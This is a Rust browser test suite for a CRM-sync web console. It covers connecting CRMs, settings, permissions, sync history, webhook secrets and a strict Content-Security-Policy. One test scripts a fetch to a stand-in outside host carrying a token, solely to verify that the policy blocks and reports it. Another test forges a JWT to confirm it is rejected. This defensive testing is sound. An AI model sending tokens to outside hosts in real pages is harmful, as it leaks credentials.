//! The web console in a real Chromium (WebDriver): what a person sees and can do, asserted on the
//! page's text and the state of its controls, with the API as the witness. Screenshots of each
//! screen go to `target/console-screens/`.

mod accessibility;
mod conflicts;
mod mappings;

use std::time::Duration;

use crmhost::auth::Role;
use crmhost_tests::{AppOptions, Backend, Browser, TestApp, eventually, token};
use fantoccini::Locator;
use reqwest::Method;
use serde_json::{Value, json};

/// An app whose bundled plugins point at fresh emulators, and a browser; `None` when the backend
/// or the browser is unavailable (and not required).
async fn start(backend: Backend, console: crmhost::console::ConsoleBranding) -> Option<(TestApp, Browser)> {
    crmhost_tests::capture_logs();
    let sim = std::sync::Arc::new(crm_sim::start(crm_sim::SimOptions::both_on_free_ports()).await.expect("emulators"));
    let app = TestApp::spawn(AppOptions { backend, sim: Some(sim), console, ..AppOptions::default() }).await?;
    let browser = Browser::start(1280, 900).await?;
    Some((app, browser))
}

/// What browsers reported the console's Content-Security-Policy blocked on this app's pages
/// (each report is one warning in the log, naming the page).
fn csp_violations(base: &str) -> Vec<String> {
    let page = format!("document={base}/console");
    crmhost_tests::captured_logs()
        .lines()
        .filter(|l| l.contains("Content-Security-Policy") && l.contains(&page))
        .map(str::to_owned)
        .collect()
}

/// Fails if a browser reported a blocked request, script, style or image on this app's pages.
fn assert_no_csp_violations(base: &str) {
    let violations = csp_violations(base);
    assert!(violations.is_empty(), "the console requested something its policy forbids:\n{}", violations.join("\n"));
}

fn console_url(app: &TestApp, token: &str) -> String {
    format!("{}/console/#token={token}", app.base)
}

async fn api_json(app: &TestApp, method: Method, path: &str) -> Value {
    let response = app.as_role(method, path, "w1", Role::Admin).send().await.expect("request");
    response.json().await.expect("json")
}

/// What a journey needs to know about a bundled CRM.
struct CrmCase {
    slug: &'static str,
    name: &'static str,
    /// An entity checked by default that the journey unticks.
    untick: &'static str,
    /// The entities left.
    entities: [&'static str; 2],
    /// Part of the connected account's label.
    account: &'static str,
}

const SALESFORCE: CrmCase = CrmCase {
    slug: "salesforce",
    name: "Salesforce",
    untick: "lead",
    entities: ["contact", "account"],
    account: "Sim Admin",
};

const HUBSPOT: CrmCase = CrmCase {
    slug: "hubspot",
    name: "HubSpot",
    untick: "deal",
    entities: ["contact", "company"],
    account: "HubSpot account",
};

/// Connect a CRM through the emulator's consent page, configure it, land on its field mappings,
/// then use every card action.
async fn connect_configure_and_manage(backend: Backend, crm: CrmCase, shots: &str) {
    let Some((app, browser)) = start(backend, Default::default()).await else { return };
    browser.open(&console_url(&app, &token("w1", Role::Admin))).await;
    browser.wait_for_text("No CRM connected yet").await;
    // The first load: its size (HTML, CSS, JavaScript, uncompressed) and when it was interactive.
    let first_load = browser
        .script(
            "const nav = performance.getEntriesByType('navigation')[0];\
             const assets = performance.getEntriesByType('resource').filter(e => ['script', 'link', 'css'].includes(e.initiatorType));\
             return { bytes: nav.decodedBodySize + assets.reduce((sum, e) => sum + e.decodedBodySize, 0),\
                      files: assets.length + 1, interactive_ms: Math.round(nav.domInteractive) }",
        )
        .await;
    eprintln!("console first load ({backend:?}): {first_load}");
    assert!(first_load["bytes"].as_u64().is_some_and(|b| b > 10_000 && b < 200_000), "{first_load}");
    let hash = browser.script("return location.hash").await;
    assert_eq!(hash, "#/integrations", "the token left the address bar");
    browser.screenshot(&format!("{shots}integrations-empty")).await;

    // Out to the CRM's consent page and back into the configure step.
    browser.click(&format!("Connect {}", crm.name)).await;
    browser.wait_for_text(&format!("Connected to {}", crm.name)).await;
    browser.screenshot(&format!("{shots}connect-configure")).await;
    let frequency = browser.client.find(Locator::Css("#frequency")).await.expect("frequency");
    frequency.select_by_value("15").await.expect("select");
    browser.click_css(&format!("input[value={}]", crm.untick)).await;
    browser.click("Save and continue").await;
    browser.wait_for_text(&format!("{} is ready", crm.name)).await;
    browser.screenshot(&format!("{shots}connect-done")).await;
    let settings_path = format!("/api/v1/workspaces/w1/integrations/{}/settings", crm.slug);
    let settings = api_json(&app, Method::GET, &settings_path).await;
    assert_eq!(settings["settings"]["frequency"], json!({"every_minutes": 15}), "{settings}");
    let entities = settings["settings"]["entities"].as_array().expect("entities").clone();
    assert!(!entities.contains(&json!(crm.untick)), "{settings}");
    assert!(crm.entities.iter().all(|e| entities.contains(&json!(e))), "{settings}");

    // On to the field mappings, which start from the plugin's defaults.
    browser.click("Configure field mappings").await;
    browser.wait_for_text(&format!("Using {}'s default mappings.", crm.name)).await;
    browser.wait_for_text("Preview").await;

    // The card: status in words, who it is connected as, the schedule.
    browser.click("← Integrations").await;
    browser.wait_for_text("Connected as").await;
    let card = browser.page_text().await;
    let other = if crm.slug == "salesforce" { "Connect HubSpot" } else { "Connect Salesforce" };
    for expected in [crm.name, "Connected", crm.account, "Next sync", "failing records", "Add a CRM", other] {
        assert!(card.contains(expected), "{expected:?} on the card:\n{card}");
    }
    browser.screenshot(&format!("{shots}integrations")).await;

    // Sync now starts a run the history shows.
    browser.click("Sync now").await;
    browser.wait_for_text(&format!("{}: sync started.", crm.name)).await;
    let history_path = format!("/api/v1/workspaces/w1/integrations/{}/sync-history", crm.slug);
    assert!(
        eventually(Duration::from_secs(20), || async {
            api_json(&app, Method::GET, &history_path).await["runs"].as_array().is_some_and(|r| !r.is_empty())
        })
        .await,
        "a run was recorded"
    );

    // Pause, then resume, from the card.
    browser.click("Pause").await;
    browser.wait_for_text(&format!("{} paused.", crm.name)).await;
    browser.control("Resume").await;
    assert!(browser.page_text().await.contains("Paused"));
    browser.click("Resume").await;
    browser.wait_for_text(&format!("{} resumed.", crm.name)).await;
    browser.control("Pause").await;

    // Disconnect asks first; cancelling keeps it, confirming removes it.
    browser.click("Disconnect").await;
    browser.wait_for_text(&format!("Disconnect {}?", crm.name)).await;
    browser.click_css("dialog button[value=cancel]").await;
    browser.control("Sync now").await;
    browser.click("Disconnect").await;
    browser.click_css("dialog button[value=confirm]").await;
    browser.wait_for_text("No CRM connected yet").await;
    let listed = api_json(&app, Method::GET, "/api/v1/workspaces/w1/integrations").await;
    assert_eq!(listed["integrations"][0]["status"], "disconnected", "{listed}");

    // Nothing the console loaded came from another origin.
    let loaded = browser.script("return performance.getEntriesByType('resource').map(e => e.name)").await;
    let foreign: Vec<&Value> = loaded
        .as_array()
        .expect("a list")
        .iter()
        .filter(|u| !u.as_str().unwrap_or("").starts_with(&app.base))
        .collect();
    assert!(foreign.is_empty(), "requests to other origins: {foreign:?}");
    assert_no_csp_violations(&app.base);
    browser.close().await;
}

#[tokio::test]
async fn an_admin_connects_salesforce_configures_it_and_manages_it_from_its_card() {
    connect_configure_and_manage(Backend::Sqlite, SALESFORCE, "").await;
}

#[tokio::test]
async fn an_admin_connects_hubspot_the_same_way() {
    connect_configure_and_manage(Backend::Sqlite, HUBSPOT, "hubspot-").await;
}

#[tokio::test]
async fn the_connect_journey_works_on_postgres_too() {
    connect_configure_and_manage(Backend::Postgres, SALESFORCE, "postgres-").await;
    connect_configure_and_manage(Backend::Postgres, HUBSPOT, "postgres-hubspot-").await;
}

/// A CRM that connects with an API key (the Python probe, built with componentize-py): the
/// console asks for the key in a dialog, shows the CRM's refusal there, and goes on to the
/// configure step once the key is accepted.
#[tokio::test]
async fn an_admin_connects_an_api_key_crm_by_typing_its_key() {
    crmhost_tests::capture_logs();
    let tmp = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"));
    let Some(probe) = tokio::task::spawn_blocking(|| crmhost_tests::build_python_probe(tmp)).await.unwrap() else {
        return;
    };
    let server = crmhost_tests::EgressServer::start().await;
    let Some(app) = crmhost_tests::app_with_python_probe(&probe, &server, AppOptions::default()).await else { return };
    let Some(browser) = Browser::start(1280, 900).await else { return };
    browser.open(&console_url(&app, &token("w1", Role::Admin))).await;
    browser.click("Connect Python probe").await;
    browser.wait_for_text("Any text: the probe's server echoes it.").await;
    let field = browser.script("const i = document.querySelector('#credential-api_key'); return [i.type, document.querySelector('label[for=credential-api_key]').textContent]").await;
    assert_eq!(field, json!(["password", "Probe key"]), "the key is asked for by its label and masked");

    type_into(&browser, "#credential-api_key", "pk-wrong-key").await;
    browser.screenshot("api-key-dialog").await;
    browser.click_css("dialog button[type=submit]").await;
    browser.wait_for_text("the CRM refused the credentials").await;
    browser.screenshot("api-key-refused").await;
    let listed = api_json(&app, Method::GET, "/api/v1/workspaces/w1/integrations").await;
    assert!(listed["integrations"].as_array().is_some_and(Vec::is_empty), "nothing kept: {listed}");

    type_into(&browser, "#credential-api_key", "pk-7d1e-good").await;
    browser.click_css("dialog button[type=submit]").await;
    browser.wait_for_text("Connected to Python probe").await;
    let listed = api_json(&app, Method::GET, "/api/v1/workspaces/w1/integrations").await;
    assert_eq!(listed["integrations"][0]["status"], "connected", "{listed}");
    assert!(!browser.page_text().await.contains("pk-7d1e-good"));
    assert_no_csp_violations(&app.base);
    browser.close().await;
}

/// A CRM offering OAuth and an API token (the Pipedrive plugin, Python, from the plugins directory
/// of a sandbox server): with nothing connected yet the console offers both ways; the token way
/// opens the key dialog and connects without leaving for the CRM. Then, with a CRM connected, its
/// card in the catalogue offers the token as the alternative to signing in.
#[tokio::test]
async fn an_admin_connects_a_crm_offering_oauth_with_its_api_token_instead() {
    crmhost_tests::capture_logs();
    let Some(plugin) = crmhost_tests::pipedrive_plugin().await else { return };
    let options = AppOptions {
        sandbox: true,
        plugin_files: vec![("pipedrive.wasm".to_owned(), plugin)],
        share_compiled_components: true,
        ..AppOptions::default()
    };
    let Some(app) = TestApp::spawn(options).await else { return };
    let Some(browser) = Browser::start(1280, 900).await else { return };
    browser.open(&console_url(&app, &token("w1", Role::Admin))).await;
    browser.wait_for_text("No CRM connected yet").await;
    assert!(browser.page_text().await.contains("Connect Pipedrive"), "signing in at Pipedrive stays offered");
    browser.screenshot("oauth-or-api-token").await;
    browser.click("Connect Pipedrive with API token").await;
    browser.wait_for_text("In Pipedrive: your name").await;
    type_into(&browser, "#credential-api_key", crm_sim::pipedrive::API_TOKEN).await;
    browser.click_css("dialog button[type=submit]").await;
    browser.wait_for_text("Connected to Pipedrive").await;
    let listed = api_json(&app, Method::GET, "/api/v1/workspaces/w1/integrations").await;
    let pipedrive =
        listed["integrations"].as_array().unwrap().iter().find(|i| i["slug"] == "pipedrive").unwrap().clone();
    assert_eq!(pipedrive["status"], "connected", "{listed}");
    assert_eq!(app.sim().sim().call_count("pipedrive POST /oauth/token"), 0, "no OAuth: the token was typed in");

    // Another workspace with Salesforce connected: Pipedrive's card offers both ways.
    assert_eq!(app.connect("w2", "salesforce").await.status(), reqwest::StatusCode::OK);
    browser.open(&console_url(&app, &token("w2", Role::Admin))).await;
    browser.wait_for_text("Use API token instead").await;
    browser.screenshot("card-oauth-or-api-token").await;
    assert_no_csp_violations(&app.base);
    browser.close().await;
}

#[tokio::test]
async fn a_member_sees_admin_actions_refused_with_the_reason() {
    let Some((app, browser)) = start(Backend::Sqlite, Default::default()).await else { return };
    assert_eq!(app.connect("w1", "hubspot").await.status(), reqwest::StatusCode::OK);
    browser.open(&console_url(&app, &token("w1", Role::Member))).await;
    browser.wait_for_text("Connected as").await;
    for admin_only in ["Pause", "Disconnect", "Connect Salesforce"] {
        let control = browser.control(admin_only).await;
        assert_eq!(control.attr("aria-disabled").await.expect("attr").as_deref(), Some("true"), "{admin_only}");
        let title = control.attr("title").await.expect("attr").unwrap_or_default();
        assert_eq!(title, "Only admins and above can do this.", "{admin_only}");
    }
    assert_eq!(browser.control("Sync now").await.attr("aria-disabled").await.expect("attr"), None);
    browser.click("Pause").await;
    browser.wait_for_text("Only admins and above can do this.").await;
    let listed = api_json(&app, Method::GET, "/api/v1/workspaces/w1/integrations").await;
    assert_eq!(listed["integrations"][0]["status"], "connected", "nothing was paused: {listed}");
    browser.screenshot("integrations-member").await;
    browser.close().await;
}

#[tokio::test]
async fn an_expired_or_refused_token_asks_to_sign_in_again() {
    let Some((app, browser)) = start(Backend::Sqlite, Default::default()).await else { return };
    let secret = secrecy::SecretString::from(crmhost_tests::JWT_SECRET);
    let w1 = crmhost::domain::WorkspaceId::parse("w1").expect("id");
    let expired = crmhost::auth::workspace_token(&secret, &w1, Role::Admin, "u", Duration::ZERO).expect("token");
    browser.open(&console_url(&app, &expired)).await;
    browser.wait_for_text("Your session has expired.").await;
    assert!(browser.page_text().await.contains("Sign in again"));

    // Signed with another key, opened in the same tab (only the fragment changes, so the page does
    // not reload): the page takes the new token and learns from the API's 401.
    let other = secrecy::SecretString::from("another-secret-that-is-long-enough-0000");
    let forged =
        crmhost::auth::workspace_token(&other, &w1, Role::Admin, "u", Duration::from_secs(600)).expect("token");
    browser.open(&console_url(&app, &forged)).await;
    browser.wait_for_text("Your session has ended.").await;
    browser.screenshot("signed-out").await;

    // No token at all.
    browser.script("sessionStorage.clear(); return null").await;
    browser.open(&format!("{}/console/", app.base)).await;
    browser.wait_for_text("Sign in from your app").await;
    browser.close().await;
}

#[tokio::test]
async fn an_operator_brands_the_console_and_it_is_served_under_a_strict_policy() {
    let branding = crmhost::console::ConsoleBranding::from_file(
        toml::from_str(
            "product_name = \"Acme Sync\"\nbrand_color = \"#7c3aed\"\ntheme = \"dark\"\n\
                        frame_ancestors = [\"https://app.acme.example\"]",
        )
        .expect("toml"),
    )
    .expect("branding");
    let Some((app, browser)) = start(Backend::Sqlite, branding).await else { return };
    let page = app.get("/console/").await;
    let policy = page.headers()["content-security-policy"].to_str().expect("ascii").to_owned();
    for part in
        ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors https://app.acme.example"]
    {
        assert!(policy.contains(part), "{part} in {policy}");
    }
    assert_eq!(app.get("/console/js/nope.js").await.status(), reqwest::StatusCode::NOT_FOUND);

    assert_eq!(app.connect("w1", "salesforce").await.status(), reqwest::StatusCode::OK);
    browser.open(&console_url(&app, &token("w1", Role::Admin))).await;
    browser.wait_for_text("Connected as").await;
    assert_eq!(browser.script("return document.title").await, "Acme Sync");
    let header = browser.script("return getComputedStyle(document.querySelector('header.top')).backgroundColor").await;
    assert_eq!(header, "rgb(124, 58, 237)");
    assert_eq!(browser.script("return document.documentElement.dataset.theme").await, "dark");
    browser.screenshot("integrations-branded-dark").await;
    assert_no_csp_violations(&app.base);

    // Anything from another origin is blocked, and the browser's report reaches the server's log.
    browser.script("fetch('https://elsewhere.example/beacon?token=do-not-log').catch(() => {}); return null").await;
    assert!(
        eventually(Duration::from_secs(10), || async { !csp_violations(&app.base).is_empty() }).await,
        "the blocked request was reported"
    );
    let reported = csp_violations(&app.base).join("\n");
    assert!(
        reported.contains("connect-src") && reported.contains("blocked=https://elsewhere.example/beacon"),
        "{reported}"
    );
    assert!(!reported.contains("do-not-log"), "a report's query is not logged: {reported}");
    browser.close().await;
}

/// Sets an input's value as a person would: select what is there, type over it.
async fn type_into(browser: &Browser, css: &str, text: &str) {
    let input = browser.client.find(Locator::Css(css)).await.unwrap_or_else(|_| panic!("no {css}"));
    input.clear().await.expect("clear");
    input.send_keys(text).await.expect("type");
}

#[tokio::test]
async fn settings_change_the_schedule_filters_and_options_and_errors_show_beside_the_setting() {
    let Some((app, browser)) = start(Backend::Sqlite, Default::default()).await else { return };
    assert_eq!(app.connect("w1", "salesforce").await.status(), reqwest::StatusCode::OK);
    browser.open(&console_url(&app, &token("w1", Role::Admin))).await;
    browser.click("Configure").await;
    browser.wait_for_text("How often").await;

    // Hourly at :15 in Europe/Paris, only contacts titled Buyer, no creating.
    let kind = browser.client.find(Locator::Css("#schedule-kind")).await.expect("kind");
    kind.select_by_value("hourly").await.expect("hourly");
    type_into(&browser, "#hourly-minute", "15").await;
    type_into(&browser, "#time-zone", "Europe/Paris").await;
    browser.click("Add a rule").await;
    type_into(&browser, "[aria-label='Rule 1: field'], [aria-label$=': field']", "title").await;
    type_into(&browser, "[aria-label$=': value']", "Buyer").await;
    browser.click_css("input[name=create_missing]").await;
    browser.click("Save settings").await;
    browser.wait_for_text("Settings saved.").await;
    let path = "/api/v1/workspaces/w1/integrations/salesforce/settings";
    let saved = api_json(&app, Method::GET, path).await;
    assert_eq!(saved["settings"]["frequency"], json!({"hourly_at": 15, "time_zone": "Europe/Paris"}), "{saved}");
    assert_eq!(saved["settings"]["filters"], json!({"contact": [{"field": "title", "op": "eq", "value": "Buyer"}]}));
    assert_eq!(saved["settings"]["create_missing"], false);
    browser.wait_for_text("Europe/Paris (").await;
    browser.script("window.scrollTo(0, 0); return null").await;
    browser.screenshot("settings").await;

    // A rule the API refuses: its message appears beside the filters, nothing is saved.
    let op = browser.client.find(Locator::Css("[aria-label$=': comparison']")).await.expect("op");
    op.select_by_value("in").await.expect("in");
    type_into(&browser, "[aria-label$=': value']", " ").await;
    browser.click("Save settings").await;
    browser.wait_for_text("The settings were not saved").await;
    let beside = browser.client.find(Locator::Css("#error-filters")).await.expect("slot").text().await.expect("text");
    assert!(beside.contains("non-empty list"), "{beside}");
    let unchanged = api_json(&app, Method::GET, path).await;
    assert_eq!(unchanged["settings"]["filters"], saved["settings"]["filters"]);
    browser.screenshot("settings-error").await;

    // Pause and resume from the settings.
    browser.click("Pause syncing").await;
    browser.wait_for_text("Syncing paused.").await;
    browser.control("Resume syncing").await;
    assert_eq!(api_json(&app, Method::GET, path).await["schedule"]["status"], "paused");
    browser.click("Resume syncing").await;
    browser.wait_for_text("Syncing resumed.").await;
    browser.control("Pause syncing").await;
    assert_no_csp_violations(&app.base);
    browser.close().await;
}

/// Sync now from the card, then watch the run live: the page shows its progress from the event
/// stream while it runs (the emulator answers slowly, so it runs a few seconds), then its result.
async fn sync_now_and_watch_it_live(app: &TestApp, browser: &Browser) {
    app.sim().sim().seed("contact", 4).expect("seeded");
    app.sim().sim().update_knobs(|k| k.latency_ms = 600).expect("knobs");
    browser.open(&console_url(app, &token("w1", Role::Member))).await;
    browser.wait_for_text("Connected as").await;
    browser.click("Sync now").await;
    browser.click("Watch it live").await;
    browser.wait_for_text("Running: ").await;
    browser.screenshot("history-live").await;
    app.sim().sim().update_knobs(|k| k.latency_ms = 0).expect("knobs");
    browser.wait_for_text("Records").await;
    browser.wait_for_no_text("Running: ").await;
    let summary = browser.text_of("#run-title").await;
    assert!(summary.contains("completed"), "the page shows how the run ended: {summary}");
}

async fn history_journey(backend: Backend) {
    let Some((app, browser)) = start(backend, Default::default()).await else { return };
    assert_eq!(app.connect("w1", "salesforce").await.status(), reqwest::StatusCode::OK);
    sync_now_and_watch_it_live(&app, &browser).await;
    // Four contacts, one with an email Salesforce refuses, pushed once.
    let records: Vec<Value> = (0..4)
        .map(|i| json!({"id": format!("c{i}"), "fields": {"email": if i == 2 { "not-an-email".to_owned() } else { format!("c{i}@example.com") }, "last_name": format!("L{i}")}}))
        .collect();
    let put = app
        .as_role(Method::PUT, "/api/v1/workspaces/w1/records/contact", "w1", Role::Admin)
        .json(&json!({"records": records}));
    assert!(put.send().await.expect("put").status().is_success());
    let push = app
        .as_role(Method::POST, "/api/v1/workspaces/w1/integrations/salesforce/push?wait=true", "w1", Role::Admin)
        .json(&json!({"entity": "contact", "record_ids": ["c0", "c1", "c2", "c3"]}));
    let run: Value = push.send().await.expect("push").json().await.expect("json");
    assert_eq!(run["failure_count"], 1, "{run}");

    browser.open(&console_url(&app, &token("w1", Role::Member))).await;
    browser.wait_for_text("Connected as").await;
    browser.open(&format!("{}/console/#/integrations/salesforce/history", app.base)).await;
    browser.wait_for_text("What is failing now: 1 record").await;
    let page = browser.page_text().await;
    assert!(page.contains("partial"), "{page}");
    browser.screenshot("history").await;

    // The group names its cause and its record.
    browser.click_css("details.group summary").await;
    browser.wait_for_text("c2 —").await;

    // The run: its failed record with the CRM's message, then a retry that runs again.
    browser.click_css("tbody a").await;
    browser.wait_for_text("Failed records (1)").await;
    let detail = browser.page_text().await;
    assert!(detail.contains("c2") && detail.to_lowercase().contains("email"), "{detail}");
    browser.screenshot("history-run").await;
    browser.click("Retry failed records").await;
    browser.wait_for_text("(retry)").await;

    // Filters: a date range before today shows nothing.
    browser.open(&format!("{}/console/#/integrations/salesforce/history", app.base)).await;
    browser.wait_for_text("Runs").await;
    type_into(&browser, "#to", "01/01/2020").await;
    browser.click("Apply").await;
    browser.wait_for_text("No runs match these filters.").await;

    // Fix the record's data, then retry the whole group from "what is failing now".
    let fix = app
        .as_role(Method::PUT, "/api/v1/workspaces/w1/records/contact", "w1", Role::Admin)
        .json(&json!({"records": [{"id": "c2", "fields": {"email": "c2@example.com", "last_name": "L2"}}]}));
    assert!(fix.send().await.expect("put").status().is_success());
    // By way of another screen, so the wait below cannot match the history screen already shown.
    browser.open(&format!("{}/console/#/integrations", app.base)).await;
    browser.wait_for_text("Connected as").await;
    browser.open(&format!("{}/console/#/integrations/salesforce/history?status=partial", app.base)).await;
    browser.wait_for_text("What is failing now: 1 record").await;
    browser.click_css("details.group summary").await;
    browser.click("Retry these 1").await;
    browser.wait_for_text("Retrying 1 record").await;
    let failures_path = "/api/v1/workspaces/w1/integrations/salesforce/failures";
    assert!(
        eventually(Duration::from_secs(20), || async {
            api_json(&app, Method::GET, failures_path).await["total"] == 0
        })
        .await,
        "the retried group synced once its data was fixed"
    );
    browser.open(&format!("{}/console/#/integrations/salesforce/history", app.base)).await;
    browser.wait_for_text("Nothing is failing.").await;
    assert_no_csp_violations(&app.base);
    browser.close().await;
}

#[tokio::test]
async fn history_shows_runs_failures_by_cause_and_a_run_with_its_errors_and_retries_them() {
    history_journey(Backend::Sqlite).await;
}

#[tokio::test]
async fn the_sync_journey_works_on_postgres_too() {
    history_journey(Backend::Postgres).await;
}

/// A delivery as an Apex trigger would post it, with `secret` in `X-Webhook-Secret`.
async fn apex_delivery(app: &TestApp, secret: &str) -> reqwest::StatusCode {
    reqwest::Client::new()
        .post(format!("{}/api/v1/webhooks/salesforce/workspaces/w1", app.base))
        .header("x-webhook-secret", secret)
        .json(&json!({"records": []}))
        .send()
        .await
        .expect("delivery")
        .status()
}

#[tokio::test]
async fn an_admin_sets_up_real_time_updates_from_salesforce_in_the_settings() {
    let Some((app, browser)) = start(Backend::Sqlite, Default::default()).await else { return };
    assert_eq!(app.connect("w1", "salesforce").await.status(), reqwest::StatusCode::OK);
    let admin = format!("{}&next=/integrations/salesforce/settings", console_url(&app, &token("w1", Role::Admin)));
    browser.open(&admin).await;
    browser.wait_for_text("Real-time updates from Salesforce").await;
    browser.wait_for_text("No secret yet").await;
    let secret_shown = "return document.getElementById('realtime-secret')?.value ?? null";

    // Made: shown once, and Salesforce's deliveries with it are taken.
    browser.click("Make a secret").await;
    browser.wait_for_text("Copy the secret now").await;
    let first = browser.script(secret_shown).await.as_str().expect("the secret is shown").to_owned();
    assert!(first.starts_with("whsec_"), "{first}");
    assert_eq!(apex_delivery(&app, &first).await, reqwest::StatusCode::OK);
    browser.script("document.getElementById('realtime-title').scrollIntoView(); return null").await;
    browser.screenshot("settings-realtime").await;

    // Rotated (after a confirmation): the old secret stops at once.
    browser.click("Rotate the secret").await;
    browser.click_css("dialog button[value=confirm]").await;
    browser.wait_for_text("The secret was rotated.").await;
    let second = browser.script(secret_shown).await.as_str().expect("the new secret").to_owned();
    assert_ne!(second, first);
    assert_eq!(apex_delivery(&app, &first).await, reqwest::StatusCode::UNAUTHORIZED);
    assert_eq!(apex_delivery(&app, &second).await, reqwest::StatusCode::OK);

    // Removed: refused; reloading never shows a secret again.
    browser.click("Remove the secret").await;
    browser.click_css("dialog button[value=confirm]").await;
    browser.wait_for_text("No secret yet").await;
    assert_eq!(apex_delivery(&app, &second).await, reqwest::StatusCode::UNAUTHORIZED);
    assert_eq!(browser.script(secret_shown).await, Value::Null);

    // A member is told who can.
    let member = format!("{}&next=/integrations/salesforce/settings", console_url(&app, &token("w1", Role::Member)));
    browser.open(&member).await;
    browser.wait_for_text("Only admins and above can set this up.").await;
    assert_no_csp_violations(&app.base);
    browser.close().await;
}
